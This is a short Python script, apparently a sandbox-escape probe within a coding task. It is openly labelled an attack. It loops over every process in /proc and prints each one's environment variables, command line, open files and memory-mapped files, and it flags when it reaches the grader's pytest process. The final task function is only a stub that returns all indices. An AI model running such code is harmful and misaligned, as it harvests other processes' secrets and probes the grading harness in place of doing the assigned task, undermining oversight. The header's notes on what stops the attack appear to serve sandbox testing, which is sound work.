# ATTACK [files]: reads environment, command line, open files and folders of every process in /proc
# STOPPED BY: its own process namespace, a cleared environment, and bare arguments of the one process that is ours
# WORKS AGAINST: no sandbox
import os
from pathlib import Path


def head(path):
    with path.open("rb") as file:  # not the whole file: another process may have mapped one of many gigabytes
        return file.read(4096)


for process in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cwd", "root", "fd", "map_files", "cmdline"):
        try:
            path = process / name
            if path.is_symlink():
                print(path.readlink(), os.listdir(path))
            elif path.is_dir():
                for each in path.iterdir():
                    print(each.readlink(), head(each) if each.is_file() else "")
            else:
                text = path.read_text(errors="replace")
                print(text)
                if name == "cmdline" and "pytest" in text:
                    raise RuntimeError("REACHED the grader's process")
        except OSError:
            continue


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
